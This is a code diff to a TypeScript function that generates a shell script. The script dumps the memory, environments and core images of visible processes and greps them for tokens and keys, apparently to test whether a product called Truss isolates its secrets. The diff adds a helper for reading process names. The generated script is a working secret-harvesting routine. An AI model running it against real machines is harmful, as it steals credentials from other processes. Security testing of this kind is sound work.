@@ -135,13 +135,15 @@ function attackScript(options: {
   const pids =
     options.scope === 'all'
       ? `pids() { ls /proc | grep -E '^[0-9]+$' | grep -vx "$$"; }`
-      : `pids() { q=$PPID; while [ "$q" -gt 1 ] 2>/dev/null; do echo "$q"; [ "$(cat /proc/$q/comm)" = node ] && break; q=$(awk '{print $4}' /proc/$q/stat); done; }`;
+      : `pids() { q=$PPID; while [ "$q" -gt 1 ] 2>/dev/null; do echo "$q"; [ "$(pname $q)" = node ] && break; q=$(awk '{print $4}' /proc/$q/stat); done; }`;
   return String.raw`D="$PWD/${LOOT_FILE}"; T="$(mktemp -d)"
 P='[A-Za-z0-9+/]{43}=|[A-Za-z][A-Za-z0-9-]*_[0-9a-f]{36}'
 say() { echo "$*"; echo "$*" >> "$D"; }
 # Each character no secret holds ends a line first: the same matches, in a fraction of the time grep
 # takes over a core dump's pages of zeros read as one line.
 hits() { tr -cs 'A-Za-z0-9+/=_-' '\n' | grep -a -o -E "$P" 2>/dev/null | sort -u | sed 's/^/hit /' >> "$D"; }
+# A process by its program's name: Node 24 names its main thread (the comm) "MainThread", not "node".
+pname() { n=$(readlink /proc/$1/exe 2>/dev/null) && basename "$n" || cat /proc/$1/comm 2>/dev/null; }
 ${pids}
 say "attack ran as uid $(id -u), $(ls -d /proc/[0-9]* | wc -l) processes visible"
 # Every visible process's command line and environment.
@@ -153,14 +155,14 @@ for p in $(pids); do
     s=$((0x${'${range%-*}'})); n=$((0x${'${range#*-}'} - s)); [ $n -gt 67108864 ] && n=67108864
     dd if=/proc/$p/mem bs=1M iflag=skip_bytes,count_bytes skip=$s count=$n 2>/dev/null
   done > "$T/mem"
-  [ -s "$T/mem" ] && say "mem read $p $(cat /proc/$p/comm)"; hits < "$T/mem"; rm -f "$T/mem"
+  [ -s "$T/mem" ] && say "mem read $p $(pname $p)"; hits < "$T/mem"; rm -f "$T/mem"
 done
 # ptrace: a core dump of every process that is not this shell or its tools.
 if command -v gdb > /dev/null; then
   for p in $(pids); do
     case "$(cat /proc/$p/comm 2>/dev/null)" in gdb|timeout|'') continue;; esac
     timeout 30 gdb -q -batch -nx -p "$p" -ex "gcore $T/core" > /dev/null 2>&1
-    [ -s "$T/core" ] && say "ptrace attached $p $(cat /proc/$p/comm)"; hits < "$T/core" 2>/dev/null; rm -f "$T/core"*
+    [ -s "$T/core" ] && say "ptrace attached $p $(pname $p)"; hits < "$T/core" 2>/dev/null; rm -f "$T/core"*
   done
 else say "no gdb"; fi
 # The disk: runner file commands, ledgers and key files at the paths Truss uses, and wherever found.
